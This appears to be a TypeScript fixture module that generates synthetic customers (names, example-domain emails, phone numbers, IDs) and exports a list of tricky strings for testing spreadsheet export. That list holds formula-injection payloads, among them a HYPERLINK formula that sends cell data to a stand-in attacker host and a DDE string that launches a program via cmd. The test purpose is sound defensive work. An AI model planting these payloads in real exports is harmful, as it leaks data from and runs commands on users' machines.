import type { Random } from '../primitives/random';

const firstNames = (
    'Aisha Akira Amélie Anders Andrea Anjali Beatriz Björn Camille Carlos Chiara Daniel Daria Diego Elif Emma Fatima Felix ' +
    'Florence François Grace Hana Hiroshi Ingrid Isabella Ivan Jakub Jean-Luc João Jonas Julia Karim Katarzyna Kenji Lars Layla ' +
    'Léa Liam Lucía Magnus María Mateusz Mei Minh Nadia Nikolai Noah Nora Olivia Omar Paolo Priya Rafael Renée Ruben Sanne ' +
    'Sara Seán Sofia Søren Tariq Thomas Tomáš Victoria Wei Yara Yusuf Zoë'
).split(' ');

const lastNames = (
    'Almeida Andersson Bakker Becker Bernard Bianchi Brown Castro Chen Cohen Costa Dubois Dvořák Eriksen Esposito Ferreira ' +
    'Fischer García Gupta Haddad Hansen Horváth Ito Ivanov Jansen Johansson Kaya Keller Khan Kim Kowalska Kumar Lambert Laurent ' +
    "Lefèvre Lim López Martin Meyer Moreau Müller Nakamura Nguyễn Nielsen Novák O’Brien O'Connor Okafor Park Patel Pereira " +
    'Petrov Rossi Sánchez Santos Schmidt Silva Smith Suzuki Tanaka Taylor Tremblay Türk Visser Weber Williams Wójcik Yılmaz ' +
    'Zhang Zimmermann'
).split(' ');

const domains = ['mail.example', 'post.example', 'inbox.example', 'company.example', 'studio.example'];

export interface Person {
    name: string;
    firstName: string;
    lastName: string;
    email: string;
    phone: string | null;
    id: string;
}

/** A name in plain Latin letters, for email addresses and IDs. */
const plainLetters = (name: string): string =>
    name
        .normalize('NFD')
        .replace(/ø/gi, 'o')
        .replace(/ı/g, 'i')
        .replace(/[^A-Za-z]/g, '')
        .toLowerCase();

/** A payer; the same people come back, as customers do. */
export function makePerson(random: Random): Person {
    const first = random.pick(firstNames);
    const last = random.pick(lastNames);
    const number = random.between(1, 9);
    return {
        name: `${first} ${last}`,
        firstName: first,
        lastName: last,
        email: `${plainLetters(first)}.${plainLetters(last)}${number}@${random.pick(domains)}`,
        phone: random.chance(0.4)
            ? `+${random.pick(['31', '33', '44', '49', '65', '81'])}${random.between(600000000, 799999999)}`
            : null,
        id: `cust-${plainLetters(last)}-${number}${random.between(10, 99)}`,
    };
}

/** Names and order IDs that try to run as spreadsheet formulas. */
export const hostileTexts: readonly string[] = [
    '=HYPERLINK("https://evil.example/?q="&A1,"Click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(A1:A9)',
    '\t=1+1',
    '＝１＋１',
    'He said "hello", twice',
    'Line one\nline two',
    '100%_sure\\maybe',
];
